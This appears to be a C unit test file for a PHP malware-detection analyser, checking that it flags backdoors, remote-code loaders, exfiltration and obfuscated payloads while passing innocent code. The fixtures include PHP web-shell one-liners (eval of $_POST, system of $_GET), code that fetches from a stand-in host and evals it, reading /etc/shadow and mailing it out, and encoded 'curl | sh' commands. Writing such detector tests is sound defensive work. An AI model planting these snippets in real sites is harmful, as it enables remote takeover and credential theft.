/* PHP: what is code, what it is lowered to, what reaches what. */
#include "read/js_case.h"

#include "read/script.h"

static struct js_case *php_run(const char *text)
{
	return js_case_steps(LANGUAGE_PHP, STR_NONE, str_of(text), 200000000);
}

static void says(const char *text, enum fact_kind kind, const char *key, const char *value)
{
	struct js_case *c = php_run(text);

	if (!js_case_find(c, kind, key, value)) {
		print_message("missing %s %s %s in:\n%s\n", fact_kind_name(kind), key ? key : "", value ? value : "", text);
		js_case_print(c);
	}
	assert_non_null(js_case_find(c, kind, key, value));
	js_case_free(c);
}

static void says_no_flow(const char *text)
{
	struct js_case *c = php_run(text);

	if (js_case_find(c, FACT_FLOW, NULL, NULL)) {
		print_message("not wanted in:\n%s\n", text);
		js_case_print(c);
	}
	assert_null(js_case_find(c, FACT_FLOW, NULL, NULL));
	js_case_free(c);
}

static void blanks(const char *file, const char *want)
{
	struct arena a;
	struct str s;

	arena_init(&a, 0);
	s = script_of_php(&a, str_of(file));
	assert_int_equal(s.len, strlen(file));
	if (!str_is(s, want))
		fail_msg("\"%.*s\", wanted \"%s\"", STR_ARG(s), want);
	arena_release(&a);
}

static void code_alone(void **state)
{
	blanks("<b>it's</b><?php $a; ?>x", "                 $a; ;  ");
	blanks("<?= $a ?>\n<?php # don't ?>'\n", "    $a ; \n              ;  \n");
	blanks("<?php '?>' . \"?>\" /* ?> */ ; // x ?>y", "      '?>' . \"?>\" /* ?> */ ;      ;  ");
	blanks("<?php <<<'E'\n ?> '\nE;\n?>", "      <<<'E'\n ?> '\nE;\n; ");
	blanks("no code", "       ");
	blanks("<?xml ?>", "        ");
	blanks("<?php #[A]\n#", "      #[A]\n ");
}

static void backdoors(void **state)
{
	static const char *const code[] = {"eval($_POST['x']);", "@eval(stripslashes($_REQUEST[\"x\"]));", "assert($_COOKIE['a']);",
		"$p = create_function('', $_SERVER['HTTP_X_A']); $p();", "preg_replace('/x/e', $_GET['x'], 'x');",
		"call_user_func('assert', base64_decode($_COOKIE[$k]));", "$f = 'as' . 'sert'; $f($_POST['q']);",
		"array_map('assert', array($_POST['q']));", "$_POST['a']($_POST['b']);", "eval(file_get_contents('php://input'));",
		"foreach ($_POST as $k => $v) { $k($v); }", "$h = getallheaders(); eval($h['X']);",
		"class A { function b($c) { $this->x = $c; eval($this->x); } } $a = new A(); $a->b($_POST['z']);"};
	static const char *const commands[] = {"system($_GET['c']);", "`{$_POST['c']}`;", "echo shell_exec(\"ls \" . $_GET['d']);",
		"passthru(trim($_POST['c']) . ' 2>&1');", "proc_open($_REQUEST['c'], array(), $p);"};

	for (size_t i = 0; i < sizeof(code) / sizeof(code[0]); i++)
		says(code[i], FACT_FLOW, "request>code", NULL);
	for (size_t i = 0; i < sizeof(commands) / sizeof(commands[0]); i++)
		says(commands[i], FACT_FLOW, "request>exec", NULL);
}

static void others(void **state)
{
	says("$c = curl_init('https://a.example/x'); curl_setopt($c, CURLOPT_POST, 1); $r = curl_exec($c); eval($r);",
		FACT_FLOW, "net>code", "a.example");
	says("eval(file_get_contents('https://a.example/x.txt'));", FACT_FLOW, "net>code", "a.example");
	says("$r = wp_remote_get('https://a.example/x'); eval(wp_remote_retrieve_body($r));", FACT_FLOW, "net>code", NULL);
	says("file_put_contents('/tmp/a.php', file_get_contents('https://a.example/x')); include '/tmp/a.php';", FACT_FLOW,
		"net>run", NULL);
	says("wp_remote_post('https://a.example/c', array('body' => array('e' => getenv())));", FACT_FLOW, "env>net", NULL);
	says("$d = file_get_contents('/etc/shadow'); mail('a@b.example', 'x', $d);", FACT_FLOW, "cred>net", NULL);
	says("$s = fsockopen('a.example', 80); $x = fgets($s); eval($x);", FACT_FLOW, "net>code", NULL);
}

static void decoded(void **state)
{
	says("eval(base64_decode('c3lzdGVtKCdpZCcpOyBlY2hvICRfUE9TVFsneCddOw=='));", FACT_DECODED, "base64", "system('id')");
	says("eval(str_rot13('flfgrz(\"phey uggcf://n.rknzcyr/v | fu\");'));", FACT_FLOW, "data>code", NULL);
	says("eval(gzinflate(base64_decode('K64sLknN1VDPTFHXtAYA')));", FACT_DECODED, "base64", "system('id')");
	says("eval(pack('H*', '73797374656d28276964293b206563686f2031293b'));", FACT_FLOW, "data>code", NULL);
	says("eval(\"\\x73\\x79\\163tem('curl https://a.example/i | sh');\");", FACT_HOST, "a.example", NULL);
	says("function d($s) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= chr(ord($s[$i]) ^ 5); } return $o; }"
	     "eval(d('v|vq`h-\"fpwi%mqquv?**`+`}dhui`*l+vm%y%vm\",>'));", FACT_DECODED, "xor", "curl https://e.example");
	says("$a = array('sys', 'tem'); $f = implode('', $a); $f('curl https://a.example/i.sh | sh');", FACT_FLOW, NULL, NULL);
}

static void innocent(void **state)
{
	static const char *const texts[] = {
		"echo htmlspecialchars($_GET['q']); $n = intval($_POST['n']);",
		"include dirname(__FILE__) . '/inc/x.php'; require_once $_SERVER['DOCUMENT_ROOT'] . '/x.php';",
		"$r = wp_remote_get('https://api.thing.example/v1'); $j = json_decode(wp_remote_retrieve_body($r));",
		"update_option('thing', sanitize_text_field($_POST['t'])); if (!empty($_POST['a'])) { do_action('x', $_POST['a']); }",
		"$cb = function($v) { return $v; }; $cb($_GET['x']); usort($l, 'strcmp'); array_map('trim', $l);",
		"system(escapeshellarg($_GET['c'])); exec('ls -l', $out); $x = base64_decode($row['data']);",
		"class A { public $x = 1; const Y = 'z'; function __construct() { $this->x = static::Y; } } new A();",
		"switch ($x) { case 1: return 2; default: throw new E('x'); } try { f(); } catch (E $e) { } finally { g(); }",
		"$s = <<<EOT\neval(\\$_POST['x'])\nEOT;\n$m = match(true) { $a => 1, default => 2 };",
	};

	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
		says_no_flow(texts[i]);
}

/* Cut everywhere: an answer each time. */
static void cut(void **state)
{
	static const char text[] = "namespace A; use B\\C; abstract class D extends E implements F { use T; public static ?int $x = 1;\n"
				   "function &f(int ...$a): array { static $s = 1; global $g; foreach ($a as $k => list($x, $y)) { yield $x => $y; }\n"
				   "return fn($z) => $z?->q['w'] ?? `ls {$x['y']}`; } } $$v = \"a{$b->c()}$d[0]${e}\"; [$p, 'q' => $r] = $t; @$u['x'](1);";

	for (size_t n = 0; n < sizeof(text); n += 3) {
		struct js_case *c = js_case_steps(LANGUAGE_PHP, STR_NONE, str_view(text, n), 200000000);

		js_case_free(c);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(code_alone),
		cmocka_unit_test(backdoors),
		cmocka_unit_test(others),
		cmocka_unit_test(decoded),
		cmocka_unit_test(innocent),
		cmocka_unit_test(cut),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
